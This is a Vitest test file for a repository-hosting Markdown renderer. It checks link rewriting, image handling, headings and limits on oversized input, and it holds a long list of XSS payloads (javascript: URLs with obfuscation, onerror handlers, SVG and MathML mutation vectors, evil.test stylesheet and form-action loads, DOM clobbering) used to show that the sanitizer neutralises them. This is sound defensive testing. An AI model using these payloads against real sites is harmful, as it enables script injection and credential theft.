import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { Markdown } from "./markdown";

async function html(source: string, directory = "docs"): Promise<string> {
  const place = { namespace: "acme", repo: "app", refName: "feature/x", directory };
  return renderToStaticMarkup(await Markdown({ source, ...place }));
}

const allowedTags = new Set(
  (
    "a b blockquote br code dd del details div dl dt em h1 h2 h3 h4 h5 h6 hr i img input ins kbd li ol p picture pre q rp " +
    "rt ruby s samp section small span strike strong sub summary sup table tbody td tfoot th thead tr tt ul var"
  ).split(" "),
);

/** Reads real HTML as loosely as a browser would, and says what in it could act. */
function activeParts(page: string): string[] {
  const found: string[] = [];
  for (const [tag, name, attributes] of page.matchAll(/<\/?([^\s/>]+)((?:"[^"]*"|'[^']*'|[^"'>])*)>/g)) {
    if (!allowedTags.has((name ?? "").toLowerCase())) found.push(tag);
    for (const [, attribute, value] of (attributes ?? "").matchAll(/([^\s=/]+)="([^"]*)"/g)) {
      if (/^(on|style|srcset|srcdoc|action|formaction|background|ping|target|xlink)/i.test(attribute ?? ""))
        found.push(tag);
      if (/^(href|src|cite)$/i.test(attribute ?? "")) {
        const bare = (value ?? "").replace(/[\s\p{Cc}]/gu, "");
        if (!/^(https?:\/\/|mailto:|\/acme\/app\/|#)/i.test(bare)) found.push(tag);
        if (attribute === "src" && !bare.startsWith("/acme/app/raw/feature/x/")) found.push(tag);
      }
      if (/^(id|name)$/i.test(attribute ?? "") && !value?.startsWith("user-content-")) found.push(tag);
    }
  }
  return found;
}

test("the check for active parts sees them", () => {
  for (const page of [
    "<script>x</script>",
    '<img src="/acme/app/raw/feature/x/a" onerror="x">',
    '<a href="javascript:x">',
    '<p style="x">',
    '<p id="root">',
    '<img src="https://evil.test/x">',
  ]) {
    expect(activeParts(page), page).not.toEqual([]);
  }
});

test.each([
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)'//>",
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](java&Tab;script:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](vbscript:msgbox)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://evil.test/1)",
  "<javascript:alert(1)>",
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="https://x.test" onclick="alert(1)" target="_top" ping="//evil.test">x</a>',
  "[x]: javascript:alert(1)\n\n[x]",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
  "<style>@import '//evil.test/x.css'; * { display: none }</style>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<p style='position:fixed;inset:0;background:url(//evil.test)'>x</p>",
  '<div style="width: expression(alert(1))">x</div>',
  "<form action='//evil.test'><input name=password><button formaction='javascript:alert(1)'>Sign in</button></form>",
  "<input type=image src=//evil.test/x onerror=alert(1) autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)></textarea><select><option>x</select>",
  "<p id=__next name=cookie>x</p><a id=document name=body>x</a><img name=getElementById src=a.png>",
  '<div id="L10" data-n="1" data-marked class="code">x</div>',
  "<meta http-equiv=refresh content='0;url=//evil.test'>",
  "<base href='//evil.test/'>",
  "<body onload=alert(1)><html onclick=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video src=//evil.test/x onerror=alert(1)><source srcset=//evil.test></video><audio src=x onerror=alert(1)>",
  "<picture><source srcset='//evil.test/x.png'><img src='//evil.test/y.png'></picture>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<template><script>alert(1)</script></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
  "<title><img src=x onerror=alert(1)></title>",
  '<table background="//evil.test/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  "```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<script>alert(1)</script>`",
  "[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)>",
  '[x](https://x.test "\\"><script>alert(1)</script>")',
  '![\\"><script>alert(1)</script>](a.png)',
  "# <script>alert(1)</script> <img src=x onerror=alert(1)>",
  "[x](\\\\evil.test/x) [y](/\\evil.test/x) [z](/\t/evil.test) [w](///evil.test)",
  "<a href='\\\\evil.test'>x</a><a href='/\\evil.test'>x</a><a href='/&#9;/evil.test'>x</a>",
  "<img src='//evil.test/x'><img src='\\\\evil.test/x'><img src='https:evil.test'><img src='/\\evil.test/x'>",
  "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee><isindex action=javascript:alert(1)>",
  "<img usemap='#m'><map name=m><area href='javascript:alert(1)' shape=default></map>",
  "<a href=//evil.test accesskey=x tabindex=1 autofocus>x</a>",
])("nothing in %j acts, loads from elsewhere or takes a name of the page", async (source) => {
  expect(activeParts(await html(source))).toEqual([]);
});

test("links of the repo stay at the same ref, from the folder of the file", async () => {
  const page = await html(
    "[a](guide.md#What-now) [b](../src/x.ts#L3-L4) [c](/LICENSE) [d](sub/) [e](../../../up.md) [f](#intro) [g](a%20b.md) [h](./) [i](x.bin?raw=true)",
  );
  expect([...page.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)).toEqual([
    "/acme/app/blob/feature/x/docs/guide.md#user-content-What-now",
    "/acme/app/blob/feature/x/src/x.ts#L3-L4",
    "/acme/app/blob/feature/x/LICENSE",
    "/acme/app/tree/feature/x/docs/sub",
    "/acme/app/blob/feature/x/up.md",
    "#user-content-intro",
    "/acme/app/blob/feature/x/docs/a%20b.md",
    "/acme/app/tree/feature/x/docs",
    "/acme/app/raw/feature/x/docs/x.bin",
  ]);
});

test("images of the repo are its raw bytes", async () => {
  expect(await html("![a logo](../img/logo.svg)")).toContain(
    '<img src="/acme/app/raw/feature/x/img/logo.svg" alt="a logo" loading="lazy"/>',
  );
});

test("an image of another site is named and linked, not loaded", async () => {
  const page = await html(
    "![build](https://ci.test/badge.svg) [![chat](//chat.test/b.png)](https://chat.test)",
  );
  expect(page).not.toContain("<img");
  expect(page).toContain(
    '<a class="external-image" title="https://ci.test/badge.svg" href="https://ci.test/badge.svg" rel="noopener noreferrer nofollow">build<small>External image, not loaded</small></a>',
  );
  expect(page).toContain(
    '<a href="https://chat.test/" rel="noopener noreferrer nofollow"><span class="external-image"',
  );
});

test("links to other sites tell them nothing", async () => {
  expect(await html("<https://x.test/a>")).toContain(
    'href="https://x.test/a" rel="noopener noreferrer nofollow"',
  );
});

test("headings have GitHub's names, and links to themselves", async () => {
  const page = await html("# What's new, in *v2*?\n\n## Über `uns`\n\n## Same\n\n## Same\n\n## Same-1\n");
  expect([...page.matchAll(/<h\d id="([^"]*)"/g)].map(([, id]) => id)).toEqual([
    "user-content-whats-new-in-v2",
    "user-content-über-uns",
    "user-content-same",
    "user-content-same-1",
    "user-content-same-1-1",
  ]);
  expect(page).toContain(
    '<a class="heading-anchor" href="#user-content-same" aria-label="Link to “Same”"></a>',
  );
});

test("fenced code has its colours, code without a language its text", async () => {
  const page = await html('```ts\nconst a = "x";\n\n// end\n```\n\n```\n<b>\n```\n');
  expect(page).toContain(
    '<code><span class="t2">const</span> a = <span class="t3">&quot;x&quot;</span>;\n\n',
  );
  expect(page).toContain('<span class="t1">// end</span>\n</code>');
  expect(page).toContain("<code>&lt;b&gt;\n</code>");
});

test("tables have a box to scroll in, task lists their boxes, footnotes their way back", async () => {
  const page = await html(
    "| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n\nText[^n].\n\n[^n]: Note.\n",
  );
  expect(page).toMatch(/<div class="table-box" tabindex="0" role="region" aria-label="Table"><table>/);
  expect(page.match(/<input type="checkbox" disabled=""/g)).toHaveLength(2);
  expect(page).toContain('checked=""');
  const target = /<a href="#([^"]+)" id="([^"]+)" data-footnote-ref/.exec(page);
  expect(page).toContain(`<li id="${target?.[1]}">`);
  expect(page).toContain(`href="#${target?.[2]}"`);
});

test("HTML that READMEs use is kept", async () => {
  const page = await html(
    '<p align="center"><img src="a.png" width="200"></p>\n<details><summary>More</summary>\n\n**bold** <kbd>x</kbd>\n</details>',
  );
  expect(page).toContain('<p align="center"><img src="/acme/app/raw/feature/x/docs/a.png" width="200"');
  expect(page).toContain("<summary>More</summary>");
  expect(page).toContain("<strong>bold</strong> <kbd>x</kbd>");
});

test("too large a file is shown as it is written, and says so", async () => {
  const page = await html(`# x\n${"<script>".repeat(70_000)}`);
  expect(page).toContain("too large to be shown as Markdown");
  expect(page).not.toContain("<script>");
});

test.each([
  [
    "a table of a thousand columns and rows",
    `${"|a".repeat(1000)}|\n${"|-".repeat(1000)}|\n${"|\n".repeat(1000)}`,
  ],
  ["quotes in quotes", ">".repeat(20_000)],
  ["elements in elements", "<b>".repeat(20_000)],
])(
  "%s is shown as it is written, and others are served after it",
  { timeout: 60_000 },
  async (_name, source) => {
    const [hostile, page] = await Promise.all([html(source), html("*fine*")]);
    expect(hostile).toContain("too complex to be shown as Markdown");
    expect(page).toContain("<em>fine</em>");
  },
);
